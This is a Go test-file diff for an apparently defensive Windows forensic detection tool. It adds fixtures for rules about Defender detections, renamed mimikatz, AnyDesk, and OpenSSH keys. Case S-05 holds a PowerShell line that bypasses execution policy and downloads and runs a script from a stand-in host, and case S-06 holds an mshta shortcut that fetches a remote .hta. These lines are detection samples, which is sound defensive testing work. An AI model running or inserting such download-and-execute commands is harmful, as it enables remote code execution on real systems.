@@ -251,6 +251,7 @@ var cases = []struct {
 	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), pf(`\Windows\System32\wevtutil.exe`, at(0)))},
 	{"D-06", findings.High, logs(), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))}, // Security is missing
 	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *events.EvtxFile) { e.MissingCount, e.Missing = 3, []string{"7 to 9"} })), append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.MissingCount, e.Dirty = 3, true }))},
+	{"D-06", findings.High, append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *events.EvtxFile) { e.HiddenCount = 1 })), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
 	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *events.EvtxFile) { e.Size = 69632 })), append(logs(), with(log("Setup", 1, day, 60), func(e *events.EvtxFile) { e.Size = 69632 }), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
 	{"D-06", findings.Low, append(logs(), rec("eventlogging", system.Setting{Setting: "File", Subject: "Security", Value: `D:\Logs\Security.evtx`})), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
 	{"D-06", findings.Low, append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), with(log("Setup", 1, day, 60), func(e *events.EvtxFile) { e.Unusual = []string{"chunk 0: the sum of its records does not fit"} })),
@@ -270,6 +271,15 @@ var cases = []struct {
 	{"F-09", findings.High, records{setting("remoteaccess", `RDP-Tcp\PortNumber`, "4444", true)}, records{setting("remoteaccess", `Terminal Server\fDenyTSConnections`, "1", false)}},
 	{"F-10", findings.High, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080", Enabled: true}))}, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080"}))}},
 	{"F-11", findings.High, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(2))}, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(200))}},
+	{"S-01", findings.High, records{rec("defenderdetections", system.DefenderDetection{Threat: "Trojan:Win32/Heron", Path: `C:\Users\u\a.exe`, NotCleaned: true})}, records{rec("defenderdetections", system.DefenderDetection{Threat: "Trojan:Win32/Heron", Path: `C:\Users\u\a.exe`}), rec("defenderdetections", system.DefenderDetection{Threat: "Virus:DOS/EICAR_Test_File", NotCleaned: true})}},
+	{"S-02", findings.High, records{rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Users\Public\a.exe`}), rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\Users\Public`})}, records{rec("defenderdetections", system.DefenderDetection{Threat: "T", Path: `C:\Users\Publicity\a.exe`}), rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\Users\Public`})}},
+	{"S-03", findings.High, records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: `C:\ProgramData\x.exe`, Original: "mimikatz.exe"})}, records{rec("defenderlog", system.DefenderLogEntry{Kind: "original name", Path: `C:\ProgramData\x.exe`, Original: "product.exe"})}},
+	{"S-04", findings.Low, records{rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: "session", Time: day})}, records{rec("hosts", communication.Host{Default: true})}},
+	{"S-04", findings.High, records{rec("remotetools", communication.RemoteTool{Tool: "AnyDesk", Kind: "installed", Path: `C:\Users\Public\AnyDesk.exe`})}, records{rec("hosts", communication.Host{Default: true})}},
+	{"S-05", findings.High, records{of("u", rec("pshistory", execution.PSCommand{Command: `Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://heron.example/a.ps1'))`}))}, records{of("u", rec("pshistory", execution.PSCommand{Command: `Invoke-WebRequest https://heron.example/a.zip -OutFile a.zip`}))}},
+	{"S-06", 0, records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: "desktop", LinkFields: activity.LinkFields{Target: `C:\Windows\System32\mshta.exe`, Arguments: "http://192.0.2.1/a.hta"}}))}, records{of("u", rec("shortcuts", activity.Shortcut{Name: "a.lnk", Place: "desktop", LinkFields: activity.LinkFields{Target: `C:\Windows\System32\cmd.exe`, Arguments: "/k"}}))}},
+	{"S-07", findings.Medium, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "immediate task", Name: "x"})}, records{rec("grouppolicy", persistence.GroupPolicy{Kind: "drive", Name: "R:"})}},
+	{"S-08", findings.Medium, records{rec("openssh", communication.OpenSSH{Kind: "authorised key", Fingerprint: "SHA256:a", Admins: true})}, records{rec("openssh", communication.OpenSSH{Kind: "known host", Fingerprint: "SHA256:a"})}},
 	{"A-01", findings.Critical, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-501")}, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-500")}},
 	{"A-02", findings.High, records{user(1005, "help$", nil)}, records{user(1001, "mira", nil)}},
 	{"A-03", findings.Critical, records{user(1005, "x", func(a *system.Account) { a.StoredRID = 500 })}, records{user(1005, "x", nil)}},
@@ -363,7 +373,7 @@ func TestEveryRuleHasACase(t *testing.T) {
 			benign records
 		}) bool {
 			return c.rule == r.ID
-		}) {
+		}) && !hasEventCase(r.ID) {
 			t.Errorf("%s has no case", r.ID)
 		}
 	}
@@ -394,4 +404,13 @@ func TestSeededStaysOut(t *testing.T) {
 			t.Errorf("%s speaks of %s", f.RuleID, f.Subject)
 		}
 	}
+}
+
+func hasEventCase(id string) bool {
+	for _, c := range eventCases {
+		if c.rule == id {
+			return true
+		}
+	}
+	return false
 }
